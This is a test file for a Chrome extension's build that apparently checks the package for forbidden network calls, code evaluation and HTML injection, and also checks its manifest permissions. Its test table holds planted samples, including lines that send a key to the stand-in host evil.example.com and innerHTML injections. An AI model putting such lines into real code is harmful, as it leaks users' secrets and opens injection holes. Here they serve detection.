import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { scan } from '../../harness/package-scan.ts';

// The package for the store.
const build = '.output/chrome-mv3';

it("names only Close's hosts, turns no text into code or markup, and opens no other page", async () => {
  const files = await readdir(build, { recursive: true });
  const readable = files.filter((file) => /\.(js|html|css|json)$/.test(file));
  expect(readable.length).toBeGreaterThan(20);
  const found = await Promise.all(
    readable.map(async (file) => scan(file, await readFile(join(build, file), 'utf8'))),
  );
  expect(found.flat()).toEqual([]);
});

it('does not run in incognito windows, which share the storage on the disk', async () => {
  const manifest = JSON.parse(await readFile(join(build, 'manifest.json'), 'utf8'));
  expect(manifest).toMatchObject({ incognito: 'not_allowed' });
});

it.each([
  ['a.js', "fetch('https://evil.example.com/?key')"],
  ['a.js', "image.src = '//evil.example.com/?key'"],
  ['a.css', '@import url(//evil.example.com/out.css)'],
  ['a.js', "(0, eval)('1')"],
  ['a.js', "new Function('return 1')"],
  ['a.js', "Function('return 1')()"],
  ['a.js', "importScripts('/out.js')"],
  ['a.js', "document.writeln('<p>')"],
  ['a.js', 'window.open(address + key)'],
  ['a.js', 'location.assign(address + key)'],
  ['a.js', 'location = address + key'],
  ['a.js', 'window.location.href = address + key'],
  ['a.js', 'chrome.tabs.update(tabId, { url: address + key })'],
  ['a.js', 'form.submit()'],
  ['a.js', 'form.requestSubmit()'],
  ['a.html', '<meta http-equiv="refresh" content="0; url=/chunks/x">'],
  ['a.html', '<link rel="preconnect" href="/chunks/x">'],
  ['a.html', '<link rel=dns-prefetch href=//evil.example>'],
  ['a.html', '<link rel="icon" href="/chunks/x">'],
  ['a.html', '<img src=//evil>'],
  ['a.html', '<form action="../out">'],
  ['a.js', "link.rel = 'dns-prefetch'"],
  ['a.js', 'link.relList.add(`preconnect`)'],
  ['a.js', "element('link', { rel: 'prefetch' })"],
  ['a.js', "script.type = 'speculationrules'"],
  ['a.html', '<script type="speculationrules">{}</script>'],
  ['a.js', 'new RTCPeerConnection()'],
  ['a.js', 'new WebTransport(address)'],
  ['a.js', 'navigator.sendBeacon(address, key)'],
  ['a.js', 'fetchLater(address)'],
  ['a.js', 'new WebSocket(address)'],
  ['a.js', 'new EventSource(address)'],
  ['a.js', 'new XMLHttpRequest()'],
  ['a.js', 'element.outerHTML = name'],
  ['a.js', "element.innerHTML = '<b>' + name"],
  ['a.js', 'element.innerHTML += name'],
  ['a.js', "frame.srcdoc = '<b>' + name"],
  ['a.js', 'dangerouslySetInnerHTML '.repeat(4)],
])('is refused with this in %s: %s', (file, planted) => {
  expect(scan(file, planted)).not.toEqual([]);
});

it("keeps the popup's first view in one file, because the browser starts one file sooner than several", async () => {
  const script = await readFile(join(build, 'popup-editor.js'), 'utf8');
  expect(script.match(/\bimport\s*(?:[{*"'`]|\w+\s*from)/g)).toBeNull();
  expect(script).toMatch(/\bimport\(["'`]\.\/chunks\//);
});

it('requests exactly the permissions explained in docs/permissions.md', async () => {
  const manifest = JSON.parse(await readFile(join(build, 'manifest.json'), 'utf8'));
  const explained = Array.from(
    (await readFile('docs/permissions.md', 'utf8')).matchAll(/^### `(.+)`$/gm),
    ([, name]) => name,
  );
  const {
    permissions,
    host_permissions,
    optional_permissions = [],
    optional_host_permissions = [],
  } = manifest;
  expect(explained).toEqual([
    ...permissions,
    ...host_permissions,
    ...optional_permissions,
    ...optional_host_permissions,
  ]);
});
